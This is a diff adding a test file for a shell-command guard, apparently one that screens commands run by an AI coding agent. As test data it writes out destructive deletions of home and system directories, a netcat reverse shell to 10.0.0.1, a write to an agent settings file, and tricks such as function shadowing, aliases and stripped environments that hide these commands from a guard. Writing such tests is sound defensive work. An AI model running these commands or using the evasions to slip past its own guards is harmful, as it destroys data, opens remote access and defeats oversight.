@@ -1,0 +1,111 @@
+import { describe, expect, it } from 'vitest';
+import { judgeShell, shellScene } from '../../src/policies/guards/shell.js';
+import { corpusContext } from './support/contexts.js';
+
+const context = corpusContext();
+
+function ruleOf(command: string): string | null {
+  return judgeShell(shellScene(command, context))?.rule.id ?? null;
+}
+
+describe('functions of a shell in the processes that it starts', () => {
+  it.each([
+    [`rm() { :; }; bash -c 'rm -rf ~'`, 'destructive.root'],
+    [`nc() { :; }; bash -c 'nc -e /bin/sh 10.0.0.1 4444'`, 'system.reverse-shell'],
+    [`tee() { :; }; sh -c 'tee .claude/settings.json < x'`, 'protected.agent'],
+    [`rm() { echo no; }; python3 -c "import os; os.system('rm -rf /etc')"`, 'destructive.root'],
+    [`rm() { :; }; export -f rm; python3 -c "import os; os.system('rm -rf /etc')"`, 'destructive.root'],
+    [`rm() { :; }; export -f rm; unset -f rm; bash -c 'rm -rf ~'`, 'destructive.root'],
+    [`rm() { :; }; export -f rm; export -nf rm; bash -c 'rm -rf ~'`, 'destructive.root'],
+    [`rm() { :; }; [ -f x ] && export -f rm; bash -c 'rm -rf ~'`, 'destructive.root'],
+    [`rm() { :; }; export -f rm; env -i bash -c 'rm -rf ~'`, 'destructive.root'],
+    [`alias rm=echo; bash -c 'rm -rf ~'`, 'destructive.root'],
+    [`clean() { rm -rf ~; }; export -f clean; bash -c clean`, 'destructive.root'],
+    [`clean() { rm -rf ~; }; export -f clean; parallel clean ::: 1`, 'destructive.root'],
+  ])('%s', (command, rule) => {
+    expect(ruleOf(command)).toBe(rule);
+  });
+
+  it.each([
+    `rm() { :; }; export -f rm; bash -c 'rm -rf ~'`,
+    `rm() { :; }; declare -fx rm; bash -c 'rm -rf ~'`,
+    `set -a; rm() { :; }; bash -c 'rm -rf ~'`,
+    `env 'BASH_FUNC_rm%%=() { :; }' bash -c 'rm -rf ~'`,
+    `rm() { :; }; rm -rf ~`,
+    `build() { rm -rf "$1"; }; export -f build; bash -c 'build dist'`,
+    `log() { echo "$@"; }; bash -c 'echo hi'`,
+  ])('but not: %s', (command) => {
+    expect(ruleOf(command)).toBeNull();
+  });
+});
+
+describe('variables that a process does not get', () => {
+  it.each([
+    `export D=/tmp/x; env -i bash -c 'rm -rf "$D"/*'`,
+    `export D=/tmp/x; env - bash -c 'rm -rf "$D"/*'`,
+    `export D=/tmp/x; env -u D bash -c 'rm -rf "$D"/*'`,
+    `export D=/tmp/x; sudo bash -c 'rm -rf "$D"/*'`,
+    `export D=/tmp/x; doas sh -c 'rm -rf "$D"/*'`,
+    `export D=/tmp/x; sudo --preserve-env=E bash -c 'rm -rf "$D"/*'`,
+    `export D=/tmp/x; su - dev -c 'rm -rf "$D"/*'`,
+    `export D=/tmp/x; ssh prod 'rm -rf "$D"/*'`,
+    `D=/tmp/x; perl -e 'system "rm -rf $ENV{D}/*"'`,
+    `D=/tmp/x; awk 'BEGIN { system("rm -rf " ENVIRON["D"] "/*") }'`,
+    `D=(/tmp/x); export D; sh -c 'rm -rf $D/*'`,
+  ])('%s', (command) => {
+    expect(ruleOf(command)).toMatch(/^destructive\.(?:root|unresolved)$/);
+  });
+
+  it.each([
+    `export D=/tmp/x; bash -c 'rm -rf "$D"/*'`,
+    `export D=/tmp/x; sudo -E bash -c 'rm -rf "$D"/*'`,
+    `export D=/tmp/x; sudo --preserve-env bash -c 'rm -rf "$D"/*'`,
+    `export D=/tmp/x; sudo --preserve-env=D bash -c 'rm -rf "$D"/*'`,
+    `sudo D=/tmp/x bash -c 'rm -rf "$D"/*'`,
+    `D=/tmp/x; sudo bash -c "rm -rf $D/*"`,
+    `D=/tmp/x; sudo rm -rf "$D"/*`,
+    `export D=/tmp/x; su dev -c 'rm -rf "$D"/*'`,
+    `export D=/tmp/x; env -u E bash -c 'rm -rf "$D"/*'`,
+    `env -i D=/tmp/x bash -c 'rm -rf "$D"/*'`,
+    `export D=/tmp/x; perl -e 'system "rm -rf $ENV{D}/*"'`,
+    `D=/tmp/x perl -e 'system "rm -rf $ENV{D}/*"'`,
+    `export PKG=curl; sudo bash -c 'apt-get install -y $PKG'`,
+    `D=(/tmp/x); rm -rf "\${D[0]}"/*`,
+  ])('but not: %s', (command) => {
+    expect(ruleOf(command)).toBeNull();
+  });
+});
+
+describe('the directory that a login starts in', () => {
+  it.each([
+    `cd /tmp; su - dev -c 'rm -rf *'`,
+    `cd /tmp; su -l dev -c 'rm -rf *'`,
+    `cd /tmp; runuser -l dev -c 'rm -rf *'`,
+    `cd /tmp; sudo -i sh -c 'rm -rf *'`,
+    `cd /tmp; sudo -iu dev rm -rf project`,
+  ])('%s', (command) => {
+    expect(ruleOf(command)).toMatch(/^destructive\.(?:root|workspace)$/);
+  });
+
+  it.each([
+    `cd /tmp; su dev -c 'rm -rf *'`,
+    `cd /tmp; sudo sh -c 'rm -rf *'`,
+    `su - dev -c 'cd /tmp/x && rm -rf *'`,
+    `sudo -iu dev sh -c 'cd project && npm test'`,
+  ])('but not: %s', (command) => {
+    expect(ruleOf(command)).toBeNull();
+  });
+});
+
+describe('the start of a search behind two dashes', () => {
+  it.each([
+    ['find -- / -delete', 'destructive.root'],
+    ['find -- .git -delete', 'destructive.git-directory'],
+    ['find -H -- ~ -delete', 'destructive.root'],
+    [String.raw`find -- ~ -exec rm -rf {} \;`, 'destructive.root'],
+    ['find -- ./dist -delete', null],
+    ["find -- build -name '*.o' -delete", null],
+  ])('%s', (command, rule) => {
+    expect(ruleOf(command)).toBe(rule);
+  });
+});
